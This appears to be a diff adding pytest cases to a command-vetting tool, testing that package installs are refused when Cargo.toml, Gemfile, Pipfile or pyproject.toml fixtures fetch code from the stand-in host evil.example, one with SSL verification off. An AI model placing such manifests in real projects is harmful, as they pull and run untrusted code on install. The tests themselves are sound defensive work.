@@ -541,3 +541,42 @@ def test_composer_json_that_only_lays_out_what_it_installs_holds_nothing(tmp_pat
     (tmp_path / "composer.json").write_text(json.dumps({**manifest, "repositories": [{"packagist.org": False}]}))
     vouched = Vouched(programs=declared_programs([tmp_path]), recipes=declared_recipes([tmp_path]))
     assert command_refusals("composer install", vouched) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "line"),
+    [
+        # Round 8b: installs whose manifest says to fetch from another host.
+        (
+            "Cargo.toml",
+            '[package]\nname = "x"\n[dependencies]\nserde = { git = "https://evil.example/s.git" }\n',
+            "cargo test",
+        ),
+        (
+            "Cargo.toml",
+            '[package]\nname = "x"\n[patch.crates-io]\nserde = { git = "https://evil.example/s" }\n',
+            "cargo build",
+        ),
+        ("Gemfile", 'source "https://evil.example"\ngem "rails"\n', "bundle install"),
+        ("Gemfile", 'source "https://rubygems.org"\ngem "x", git: "https://evil.example/x.git"\n', "bundle install"),
+        ("Pipfile", '[[source]]\nurl = "http://evil.example"\nverify_ssl = false\nname = "x"\n', "pipenv install"),
+        ("pyproject.toml", '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.example"\n', "poetry install"),
+    ],
+)
+def test_a_manifest_that_fetches_from_another_host_holds_its_tool(
+    tmp_path: Path, name: str, text: str, line: str
+) -> None:
+    (tmp_path / name).write_text(text)
+    vouched = Vouched(programs=declared_programs([tmp_path]), recipes=declared_recipes([tmp_path]))
+    assert command_refusals(line, vouched), line
+
+
+def test_a_manifest_that_fetches_from_the_public_registry_holds_nothing(tmp_path: Path) -> None:
+    (tmp_path / "Cargo.toml").write_text(
+        '[package]\nname = "x"\n[dependencies]\nserde = "1"\nlocal = { path = "crates/l" }\n'
+    )
+    (tmp_path / "Gemfile").write_text('source "https://rubygems.org"\ngem "rails", "~> 7.1"\n')
+    (tmp_path / "Pipfile").write_text('[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n')
+    vouched = Vouched(programs=declared_programs([tmp_path]), recipes=declared_recipes([tmp_path]))
+    for line in ("cargo test", "bundle install", "pipenv install"):
+        assert command_refusals(line, vouched) == [], line
